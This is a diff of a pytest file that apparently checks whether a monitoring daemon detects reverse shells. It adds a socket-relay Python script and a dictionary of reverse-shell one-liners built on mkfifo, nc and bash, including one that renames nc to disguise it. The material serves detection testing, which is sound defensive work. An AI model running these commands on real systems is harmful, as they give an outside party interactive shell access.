@@ -34,12 +34,26 @@ def command(intruder: socket.socket, line: str = "id; sleep 0.1\n") -> str:
     return ""
 
 
+MOVED = """
+import os, select, socket, sys
+s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
+said, out = os.dup(0), os.dup(1)
+for n in (0, 1):
+    os.dup2(os.open(os.devnull, os.O_RDWR), n)
+while True:
+    ready = select.select([s, said], [], [])[0]
+    if s in ready:
+        os.write(out, s.recv(4096) or sys.exit())
+    if said in ready:
+        s.sendall(os.read(said, 4096))
+"""
 FED = {
     "netcat": "mkfifo f; sh -i < f 2>&1 | nc {host} {port} > f",
     "netcat-by-another-name": "mkfifo f; cp $(readlink -f $(which nc)) ./updater; sh < f 2>&1 | ./updater {host} {port} > f",
     "as-everybody-types-it": "rm -f f; mkfifo f; cat f | /bin/sh -i 2>&1 | nc {host} {port} > f",
     "through-filters": "mkfifo f; cat -u < f | bash 2>&1 | cat -u | nc {host} {port} > f",
     "a-fifo-kept-open": "mkfifo f; exec 7<>f; sh <&7 2>&1 | nc {host} {port} >&7",
+    "standard-files-moved": "mkfifo f; {python} moved.py {host} {port} < f | sh 2>&1 > f",
     "an-interpreter": "mkfifo f; {python} -i -u < f 2>&1 | nc {host} {port} > f",
     "commands-by-eval": "mkfifo f; while read -r line; do eval \"$line\"; done < f 2>&1 | nc {host} {port} > f",
 }  # fmt: skip
@@ -48,11 +62,12 @@ FED = {
 @pytest.mark.parametrize("line", FED.values(), ids=FED)
 def test_a_shell_behind_pipes(shared_daemon: Daemon, far: FarSide, tmp_path: Path, line: str) -> None:
     shared_daemon.watched("job")
+    (tmp_path / "moved.py").write_text(MOVED)
     with Hub(far) as hub:
         words = {"host": hub.host, "port": hub.port, "python": sys.executable}
         shared_daemon.spawn("job", "/bin/bash", "-c", line.format(**words), cwd=tmp_path)
         intruder = hub.accept()
-        talks = "print(1)\n" if "python" in line else "id; sleep 0.1\n"
+        talks = "print(1)\n" if "-i -u" in line else "id; sleep 0.1\n"
         for _ in range(40):
             if not command(intruder, talks):
                 break
@@ -70,6 +85,15 @@ def test_a_shell_behind_tls(shared_daemon: Daemon, far: FarSide, tmp_path: Path,
         found(shared_daemon)
 
 
+def ask(giving: socket.socket, taking: socket.socket) -> str:
+    """What the shell answers on the other connection. "" once it is cut off."""
+    taking.settimeout(5)
+    with contextlib.suppress(OSError):
+        giving.sendall(b"id\n")
+        return taking.recv(4096).decode(errors="replace")
+    return ""
+
+
 def test_a_shell_between_two_connections(shared_daemon: Daemon, far: FarSide, tmp_path: Path) -> None:
     shared_daemon.watched("job")
     with Hub(far) as orders, Hub(far) as answers:
@@ -78,10 +102,10 @@ def test_a_shell_between_two_connections(shared_daemon: Daemon, far: FarSide, tm
         giving, taking = orders.accept(), answers.accept()
         giving.sendall(b"id\n")
         assert "uid=0" in taking.recv(4096).decode()
-        with contextlib.suppress(OSError):  # it is cut off meanwhile
-            for _ in range(10):
-                giving.sendall(b"id\n")
-                time.sleep(0.1)
+        for _ in range(60):  # a script comes as a whole: it takes a conversation
+            if "uid=0" not in ask(giving, taking):
+                break
+            time.sleep(0.2)
         found(shared_daemon)
 
 
